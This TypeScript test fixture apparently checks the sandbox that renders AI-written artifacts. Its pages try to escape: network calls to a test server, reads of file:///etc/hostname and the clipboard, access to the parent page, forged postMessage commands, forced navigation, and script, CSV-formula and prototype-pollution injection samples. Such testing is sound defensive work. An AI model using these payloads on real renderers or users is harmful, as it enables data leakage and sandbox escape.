// What a model might answer: honest artifacts, and pages that try everything to get out.

const block = (language: string, text: string): string => `\`\`\`${language}\n${text}\n\`\`\``;

const counter = `<!DOCTYPE html><html lang="en"><head><title>Counter</title></head><body>
<button onclick="press()">Press</button> <a href="#down">Down</a> <output></output>
<div style="height:3000px"></div><h2 id="down">Down here</h2>
<form onsubmit="event.preventDefault(); document.querySelector('output').textContent += ' Submitted'"><button>Submit</button></form>
<script>
	let count = Number(localStorage.getItem('count') ?? 0);
	const show = () => { document.querySelector('output').textContent = 'Pressed ' + count + ' times'; };
	function press() { count++; localStorage.setItem('count', count); show(); }
	show();
</script></body></html>`;

const links = `<a id="a" href="https://example.invalid/elsewhere">Elsewhere</a> <output></output>
<script>
	document.getElementById('a').click();
	parent.postMessage({ href: 'https://example.invalid/by-script' }, '*');
	setTimeout(() => document.querySelector('output').textContent = 'The script has pressed it', 300);
</script>`;

const huge = `graph TD\n${Array.from({ length: 3000 }, (_, n) => `N${n}-->N${(n * 7919) % 3000}`).join('\n')}`;

/** Answers that hold one artifact each, by name. */
export const blocks: Readonly<Record<string, string>> = {
	counter: block('html', counter),
	links: block('html', links),
	svg: block(
		'svg',
		'<svg viewBox="0 0 120 60" width="240"><script>alert(1)</script><image href="http://127.0.0.1:9/x.png"/><foreignObject width="60" height="20"><p xmlns="http://www.w3.org/1999/xhtml">text</p></foreignObject><circle cx="60" cy="30" r="20" fill="teal" onload="alert(2)"/></svg>',
	),
	mermaid: block('mermaid', 'graph TD\n A[Start] --> B{Is it up?}\n B -->|yes| C[Ask]\n B -->|no| D[Fall back]'),
	'broken diagram': block('mermaid', 'no diagram at all'),
	'huge diagram': block('mermaid', huge),
	chart: block(
		'json',
		'{"type":"bar","title":"Fares","data":{"labels":["a","b"],"datasets":[{"label":"2026","data":[1,2]}]}}',
	),
	table: block('csv', 'route,price\nHarbour,3.20\n=HYPERLINK("http://127.0.0.1:9"),1'),
	json: block('json', '{"__proto__":{"polluted":true},"constructor":1,"big":12345678901234567890,"list":[1,2]}'),
	markdown: block(
		'md',
		'# Plan\n\n<script>alert(1)</script>\n\n<iframe src="x"></iframe>\n\n![x](http://127.0.0.1:9/x.png)',
	),
};

/**
 * A page that tries what does not lead it away. Each attempt is reported as `refused` unless it got somewhere; whether
 * something came through is told by who visited `url`.
 */
export function attacks(url: string): string {
	return block(
		'html',
		`<link rel="prefetch" href="${url}/prefetch"><link rel="stylesheet" href="${url}/style.css"><link rel="preload" as="image" href="${url}/preload">
<link rel="modulepreload" href="${url}/module"><link rel="manifest" href="${url}/manifest"><link rel="icon" href="${url}/icon">
<base href="${url}/"><style>@import "${url}/import.css"; body { background: url(${url}/background) } @font-face { font-family: x; src: url(${url}/font) }</style>
<p style="font-family: x">text</p>
<img src="${url}/image"><img srcset="${url}/set 1x"><video src="${url}/video" autoplay></video><audio src="${url}/audio" autoplay></audio>
<script src="${url}/script.js"></script><object data="${url}/object"></object><embed src="${url}/embed">
<iframe src="${url}/frame"></iframe><iframe srcdoc="<script>fetch('${url}/inner'); new RTCPeerConnection({ iceServers: [{ urls: 'stun:${url.replace('http://', '')}' }] }).createDataChannel('x')</script>"></iframe>
<svg><image href="${url}/svg-image"/><use href="${url}/use#x"/></svg>
<pre id="report"></pre><p id="end"></p>
<script>
const report = {};
const attempt = async (name, work) => {
	try { report[name] = (await Promise.race([work(), soon(1000)])) ? 'came through' : 'refused'; } catch { report[name] = 'refused'; }
};
const soon = ms => new Promise(resolve => setTimeout(resolve, ms));
(async () => {
	await attempt('fetch', async () => (await fetch('${url}/fetch')).ok);
	await attempt('no-cors fetch', async () => (await fetch('${url}/fetch', { mode: 'no-cors' })).type);
	await attempt('XMLHttpRequest', () => new Promise((resolve, reject) => { const x = new XMLHttpRequest(); x.onload = resolve; x.onerror = reject; x.open('GET', '${url}/xhr'); x.send(); }));
	await attempt('WebSocket', () => new Promise((resolve, reject) => { const s = new WebSocket('${url.replace('http', 'ws')}/socket'); s.onopen = resolve; s.onerror = reject; }));
	await attempt('EventSource', () => new Promise((resolve, reject) => { const s = new EventSource('${url}/events'); s.onopen = resolve; s.onerror = reject; }));
	// It says that it was queued; whether it arrives is counted by the server.
	await attempt('beacon', () => { navigator.sendBeacon('${url}/beacon', 'x'); });
	await attempt('import', () => import('${url}/import.js'));
	await attempt('worker', () => new Promise((resolve, reject) => { const w = new Worker(URL.createObjectURL(new Blob(['fetch("${url}/worker"); postMessage(1)']))); w.onmessage = resolve; w.onerror = reject; }));
	await attempt('service worker', () => navigator.serviceWorker.register('${url}/sw.js'));
	await attempt('image', () => new Promise((resolve, reject) => { const i = new Image(); i.onload = resolve; i.onerror = reject; i.src = '${url}/new-image'; }));
	await attempt('peer connection', async () => {
		const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:${url.replace('http://', '')}' }] });
		peer.createDataChannel('x');
		await peer.setLocalDescription();
		return true;
	});
	await attempt('frame of its own', async () => {
		const frame = document.createElement('iframe');
		document.body.append(frame);
		return frame.contentWindow.RTCPeerConnection;
	});
	await attempt('frame in a shadow', async () => {
		const host = document.body.appendChild(document.createElement('div'));
		const frame = document.createElement('iframe');
		host.attachShadow({ mode: 'closed' }).append(frame);
		return frame.contentWindow.RTCPeerConnection;
	});
	await attempt('window.open', () => window.open('${url}/open'));
	await attempt('VS Code', () => acquireVsCodeApi());
	await attempt('the page around', () => parent.document.body.innerHTML);
	await attempt('the page around that', () => parent.parent.document.body.innerHTML);
	await attempt('top', () => top.document);
	await attempt('top.location', () => { top.location = '${url}/top'; });
	await attempt('cookies', () => { document.cookie = 'a=b'; return document.cookie; });
	await attempt('IndexedDB', () => new Promise((resolve, reject) => { const r = indexedDB.open('x'); r.onsuccess = resolve; r.onerror = reject; }));
	await attempt('file', async () => (await fetch('file:///etc/hostname')).ok);
	await attempt('resources of VS Code', async () => (await fetch('https://file+.vscode-resource.vscode-cdn.net/etc/hostname')).ok);
	await attempt('notification', async () => (await Notification.requestPermission()) === 'granted');
	await attempt('clipboard', async () => (await navigator.clipboard.readText()) !== undefined);
	await attempt('position', () => new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(resolve, reject)));
	await attempt('camera', () => navigator.mediaDevices.getUserMedia({ video: true }));
	parent.postMessage({ command: 'onmessage', data: { kind: 'link', href: '${url}/forged' } }, '*');
	parent.parent.postMessage({ command: 'onmessage', data: { message: { kind: 'link', href: '${url}/forged' } } }, '*');
	await soon(500);
	document.getElementById('report').textContent = JSON.stringify(report);
	document.getElementById('end').textContent = 'all done';
})();
</script>`,
	);
}

/** Ways to another address, each on a page of its own. */
export function departures(url: string): Record<string, string> {
	return {
		'a refresh': block('html', `<meta http-equiv="refresh" content="0; url=${url}/refresh"><p>bye</p>`),
		'its location': block('html', `<script>location.href = '${url}/location'</script><p>bye</p>`),
		'a data address': block(
			'html',
			`<script>location.href = 'data:text/html,<script>1</script' + '>'</script><p>bye</p>`,
		),
		'a link that a script presses': block(
			'html',
			`<a id="a" href="${url}/pressed">x</a><script>a.addEventListener('click', event => event.stopPropagation()); a.click()</script>`,
		),
		'a form': block(
			'html',
			`<form action="${url}/form" method="post"><input name="a" value="b"></form><script>document.forms[0].submit()</script>`,
		),
		'its own blob': block(
			'html',
			`<script>location.href = URL.createObjectURL(new Blob(['<p>blob</p>'], { type: 'text/html' }))</script>`,
		),
	};
}
